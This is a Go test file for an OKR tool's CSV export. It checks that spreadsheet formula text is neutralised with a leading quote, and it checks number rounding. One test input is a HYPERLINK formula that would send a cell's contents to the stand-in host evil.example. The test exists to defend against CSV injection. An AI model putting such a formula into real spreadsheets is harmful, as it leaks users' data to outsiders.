package render

import (
	"math"
	"strings"
	"testing"

	"github.com/okrgen/okrgen/okr"
)

// TestCSVNeutralisesFormulas puts text that a spreadsheet would run as a
// formula into every text cell of a key result's row and checks the bytes
// of okrs.csv: each such cell starts with a single quote (OWASP's CSV
// injection guidance), and the numbers, negative ones included, stay
// plain numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	tests := []struct {
		text string
		cell string // as written in the file
	}{
		{"Cut p95 latency", "Cut p95 latency"},
		{"", ""},
		{"90% fewer API errors", "90% fewer API errors"},
		{"-90% API errors", "'-90% API errors"},
		{"+1 NPS", "'+1 NPS"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", `"'=1+1"`}, // encoding/csv drops a lone CR with UseCRLF: "=1+1" would be left
		{"-", "'-"},
		{"＝1+1", "'＝1+1"}, // fullwidth equals sign
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠x", "'＠x"},
		{"a=1", "a=1"},
		{"it's", "it's"},
		{"a,b", `"a,b"`},
	}
	for _, tt := range tests {
		q := &okr.Quarter{ID: "2026-Q3", Start: okr.NewDate(2026, 7, 1), End: okr.NewDate(2026, 9, 30)}
		o := &okr.Objective{ID: "O1", Quarter: q, Title: tt.text, Owner: tt.text, Kind: okr.Committed, Weight: 1}
		start, target, current := -12.5, 100.0, -3.0
		kr := &okr.KeyResult{ID: "KR1", Objective: o, Title: tt.text, Kind: okr.Metric, Unit: tt.text, Owner: tt.text,
			Weight: 1, Start: &start, Target: &target}
		score := -0.25
		qn := &okr.QuarterNumbers{Quarter: q, Objectives: []*okr.ObjectiveNumbers{{
			Objective: o, Progress: -0.5,
			KeyResults: []*okr.KRNumbers{{KR: kr, Target: &target, Current: &current, Progress: -0.125, Expected: 0.5, Status: okr.StatusOffTrack,
				Score: &score, LastUpdate: okr.NewDate(2026, 7, 14)}},
		}}}
		got := string(CSV(qn))
		c := tt.cell
		want := strings.Join([]string{"2026-Q3,O1", c, "committed,1,-0.5,KR1,O1.KR1", c, "metric", c, c,
			"1,-12.5,100,,-3,,-0.125,0.5,off-track,-0.25,,,false,2026-07-14\r\n"}, ",")
		if _, row, _ := strings.Cut(got, "\r\n"); row != want {
			t.Errorf("text %q:\n got %q\nwant %q", tt.text, row, want)
		}
	}
}

// TestCSVNumbers: shares (progress, expected, score) are rounded to nine
// decimals, which removes the noise of binary arithmetic
// (0.5499999999999999 is 0.55) and a negative zero; values as typed
// (weights, start, target, current) stay exact.
func TestCSVNumbers(t *testing.T) {
	q := &okr.Quarter{ID: "2026-Q3", Start: okr.NewDate(2026, 7, 1), End: okr.NewDate(2026, 9, 30)}
	o := &okr.Objective{ID: "O1", Quarter: q, Title: "T", Kind: okr.Aspirational, Weight: 1.5}
	start, target, current := 200.0, 100.0, 140.2173913
	kr := &okr.KeyResult{ID: "KR1", Objective: o, Title: "T", Kind: okr.Metric, Unit: "ms", Weight: 0.25, Start: &start, Target: &target}
	score := 0.5499999999999999
	qn := &okr.QuarterNumbers{Quarter: q, Objectives: []*okr.ObjectiveNumbers{{
		Objective: o, Progress: 0.30000000000000004,
		KeyResults: []*okr.KRNumbers{{KR: kr, Target: &target, Current: &current, Progress: 0.5499999999999999, Expected: 45.0 / 92,
			Score: &score, Grade: okr.GradePartial}},
	}}}
	want := "2026-Q3,O1,T,aspirational,1.5,0.3,KR1,O1.KR1,T,metric,ms,,0.25,200,100,,140.2173913,,0.55,0.489130435,,0.55,partial,,false,\r\n"
	if _, row, _ := strings.Cut(string(CSV(qn)), "\r\n"); row != want {
		t.Errorf("\n got %q\nwant %q", row, want)
	}
	qn.Objectives[0].Progress = math.Copysign(0, -1)
	qn.Objectives[0].KeyResults[0].Progress = math.Copysign(0, -1)
	want = "2026-Q3,O1,T,aspirational,1.5,0,KR1,O1.KR1,T,metric,ms,,0.25,200,100,,140.2173913,,0,0.489130435,,0.55,partial,,false,\r\n"
	if _, row, _ := strings.Cut(string(CSV(qn)), "\r\n"); row != want {
		t.Errorf("negative zero:\n got %q\nwant %q", row, want)
	}
}
